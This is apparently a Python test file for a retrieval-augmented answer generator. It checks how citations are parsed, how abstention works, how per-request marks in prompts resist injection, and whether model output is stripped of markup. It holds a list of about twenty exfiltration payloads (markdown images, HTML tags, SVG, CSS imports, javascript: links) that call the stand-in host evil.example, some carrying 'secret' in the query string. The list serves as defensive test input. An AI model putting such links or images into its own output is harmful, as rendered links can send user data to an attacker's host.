"""The generative writer: what is sent is marked and recorded, what comes back is plain statements with citations."""

from __future__ import annotations

import asyncio
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from citewell.synthesis.generate import ABSTENTION, Generative, prompts, read
from citewell.synthesis.plain import plain
from citewell.testing.scripted import ScriptedGenerator
from citewell.types import AbstainReason, BlockKind, DocumentRef, Evidence, Hit, Mark, Node, Span


def evidence(text: str, number: int = 1) -> Evidence:
    node = Node(f"n{number}", f"d{number}", Span(0, len(text)), text, "Title", BlockKind.PARAGRAPH)
    reference = DocumentRef(f"d{number}", f"file:{number}.md", "Title", 1, "default", "text/markdown")
    return Evidence(number, Hit(node, reference, 1.0, number, number), f"Title\n{text}", text, Span(0, len(text)), 50)


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("The limit is 5 [1]. It rises [2, 3].", [("The limit is 5.", [1]), ("It rises.", [2, 3])]),
        ("The limit is 5. [1][2] More 【1】.", [("The limit is 5.", [1, 2]), ("More.", [1])]),
        ("[2] The limit is 5.\n[1] Next.", [("The limit is 5.", [2]), ("Next.", [1])]),
        ("A holds [1-3]. No source here.", [("A holds.", [1, 2, 3]), ("No source here.", [])]),
        ("- **Five** days [^1]\n- Ten days [Source 2]", [("Five days", [1]), ("Ten days", [2])]),
        ("Yes. You may work abroad [1].", [("Yes, You may work abroad.", [1])]),
        ("The limit is 99 units [42].", [("The limit is 99 units.", [42])]),
    ],
)
def test_citations_of_every_form_go_to_their_sentence(raw: str, expected: list[tuple[str, list[int]]]) -> None:
    statements, abstained = read(raw)
    assert [(one.text, [mark.number for mark in one.marks]) for one in statements] == expected
    assert not abstained


def test_the_abstention_line_abstains_and_beside_an_answer_is_dropped() -> None:
    assert read(ABSTENTION) == ((), True)
    statements, abstained = read(f"The limit is 5 [1]. {ABSTENTION}")
    assert ([one.text for one in statements], abstained) == (["The limit is 5."], False)


def test_the_draft_holds_what_was_sent_and_what_came_back_byte_for_byte() -> None:
    generator = ScriptedGenerator(["The limit is 5 [1]."])
    draft = asyncio.run(Generative(generator).write("What is the limit?", [evidence("The limit is 5 units.")]))
    asked = generator.asked[0]
    assert draft.prompt == f"{asked.system}\n\n{asked.prompt}"
    assert draft.raw == "The limit is 5 [1]."
    assert [one.marks for one in draft.statements] == [(Mark(1),)]
    assert draft.usage.model_calls == 1
    assert "Title\nThe limit is 5 units." in asked.prompt


def test_without_evidence_no_model_is_asked() -> None:
    generator = ScriptedGenerator([])
    draft = asyncio.run(Generative(generator).write("What?", []))
    assert draft.abstained is AbstainReason.NO_EVIDENCE
    assert generator.asked == []


def test_an_answer_of_which_nothing_is_left_is_an_abstention_with_a_reason() -> None:
    draft = asyncio.run(Generative(ScriptedGenerator(["<img src=x onerror=y>"])).write("What?", [evidence("Text.")]))
    assert (draft.statements, draft.abstained) == ((), AbstainReason.WEAK_EVIDENCE)
    assert draft.reason


@settings(max_examples=200)
@given(st.text(max_size=200), st.lists(st.text(max_size=200), min_size=1, max_size=3))
def test_no_text_can_end_its_own_mark(question: str, texts: list[str]) -> None:
    system, prompt = prompts(question, [evidence(text, number) for number, text in enumerate(texts, start=1)])
    found = re.search(r"<<([0-9a-f]{16})>>", system)
    assert found is not None
    mark = found.group()
    assert not any(found.group(1) in text.lower() for text in (question, *texts))
    assert prompt.count(mark) == 2 * len(texts) + 2


def test_each_request_has_its_own_mark() -> None:
    assert prompts("q", [evidence("a")])[0] != prompts("q", [evidence("a")])[0]


EXFILTRATION = [
    "![x](http://evil.example/?q=secret)",
    "![x][r]\n\n[r]: http://evil.example/?q=secret",
    "[click](https://evil.example/a)",
    "[click]( https://evil.example/a 'title')",
    "<img src=http://evil.example/x>",
    "<img src=http://evil.example/x",
    "<a href='https://evil.example'>here</a>",
    "&lt;img src=//evil.example/x&gt;",
    "&amp;lt;img src=//evil.example/x&amp;gt;",
    '<svg><image href="https://evil.example/i.png"/></svg>',
    "<https://evil.example/auto>",
    "Visit https://evil.example/now or www.evil.example or evil.example/x?d=1.",
    "Visit h\u200bttps://evil.example/now",
    "<scr<script>ipt src=https://evil.example/x></script>",
    "[a](javascript:alert(1))",
    "![a](data:image/png;base64,AAAA)",
    "\\href{https://evil.example}{x} \\includegraphics{https://evil.example/i}",
    "[![x](https://evil.example/i)](https://evil.example/j)",
    "//evil.example/x and ftp://evil.example/y",
    "<style>@import url(https://evil.example/c.css)</style>",
]


@pytest.mark.parametrize("form", EXFILTRATION)
def test_no_link_image_or_tag_survives_in_any_form(form: str) -> None:
    shown = " ".join(one.text for one in read(f"The limit is 5 [1]. {form}")[0])
    assert "evil.example" not in shown
    assert not re.search(r"[<>]|\]\(|!\[|://|javascript:|data:", shown)
    assert shown.startswith("The limit is 5.")


@pytest.mark.parametrize("form", EXFILTRATION)
def test_no_link_survives_a_cut_at_any_character(form: str) -> None:
    for end in range(len(form) + 1):
        shown = plain(form[:end])
        assert not re.search(r"[<>]|\]\(|!\[|://\w|javascript:\w", shown), (end, shown)


def test_ordinary_text_is_not_touched() -> None:
    text = "Costs are up to 5 % (at most EUR 1,500) for A/B tests, e.g. in 2024; ask desk_lead or see 2.1."
    assert plain(text) == text
